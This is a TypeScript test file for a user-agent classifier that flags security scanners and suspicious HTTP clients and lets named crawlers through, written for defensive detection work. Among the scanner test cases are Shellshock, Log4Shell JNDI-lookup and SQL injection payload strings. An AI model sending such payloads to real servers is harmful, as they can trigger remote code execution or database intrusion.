import { UserAgents } from './user-agent';

const agents = new UserAgents(['acmebot']);
const ANDROID = (model: string) =>
  `Mozilla/5.0 (Linux; Android 12; ${model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36`;

describe('UserAgents', () => {
  it.each([
    ...[
      'sqlmap/1.9#stable',
      'Mozilla/5.00 (Nikto/2.5)',
      'Nuclei - Open-source project',
      'gobuster/3.6',
      'w3af.example',
    ],
    ...[
      'Fuzz Faster U Fool v2.0.0',
      'Mozilla/5.0 (Hydra)',
      'Mozilla/5.0 zgrab/0.x',
      'masscan/1.3',
      'acme-security-scan',
    ],
    ...[
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/140.0 Safari/537.36',
    ],
    ...['() { :; }; echo', 'Mozilla/5.0 ${jndi:ldap://198.51.100.1/a}', "Mozilla/5.0' union select 1"],
  ])('knows the scanner in %s', (agent) => {
    expect(agents.judge(agent).scanner).not.toBeNull();
  });

  it.each([
    ...[
      'curl/8.5.0',
      'Wget/1.21',
      'python-requests/2.32',
      'Java/17.0.9',
      'Apache-HttpClient/4.5 (Java/17)',
      'node-fetch/1.0',
    ],
    ...[
      'PostmanRuntime/7.36',
      'Go-http-client/1.1',
      'Symfony HttpClient (Curl)',
      'okhttp/4.12.0',
      'libwww-perl/6.67',
    ],
    ...[
      'Mozilla/5.0 (compatible; GPTBot/1.0)',
      'SemrushBot 1.0',
      'SISTRIX Crawler',
      'Mozilla/4.0',
      'Mozilla/5.g',
    ],
    ...['', ' ', 'x', 'undici', 'abcdefghi'],
  ])('refuses a page to %p', (agent) => {
    expect(agents.judge(agent)).toMatchObject({ scanner: null, suspicion: expect.any(String) as string });
  });

  it.each([
    ...[ANDROID('CUBOT X50'), ANDROID('CUBOT'), ANDROID('Pixel 9'), `${ANDROID('K')} CamScanner`],
    ...[
      'Abbott-Labs-Viewer/1.0',
      'Mozilla/5.0 (JavaScript enabled)',
      'Mozilla/5.0 JavaFX/19',
      'Dart/3.2 (dart:io)',
    ],
    ...['Preview (+https://chat.example/robots)', 'abcdefghij', 'Census of 2026 (contact@scan.example)'],
  ])('finds nothing wrong with %s', (agent) => {
    expect(agents.judge(agent)).toEqual({ scanner: null, suspicion: null, goodBot: null });
  });

  it.each([
    ...['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Googlebot-Image/1.0'],
    ...[
      'Mozilla/5.0 (compatible; YandexBot/3.0)',
      'DuckDuckBot/1.1',
      'Pingdom.com_bot_version_1.4',
      'Site24x7',
    ],
    ...['LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient)', 'AcmeBot/2'],
  ])('lets %s pass by name', (agent) => {
    expect(agents.judge(agent)).toMatchObject({ suspicion: null, goodBot: expect.any(String) as string });
  });

  it('does not take a tool or scanner for the bot whose name it adds', () => {
    expect(agents.judge('curl/8.0 googlebot')).toEqual({ scanner: null, suspicion: 'curl', goodBot: null });
    expect(agents.judge('sqlmap bingbot')).toEqual({ scanner: 'sqlmap', suspicion: 'sqlmap', goodBot: null });
    expect(agents.judge('notgooglebotty/1.0').goodBot).toBeNull();
  });
});
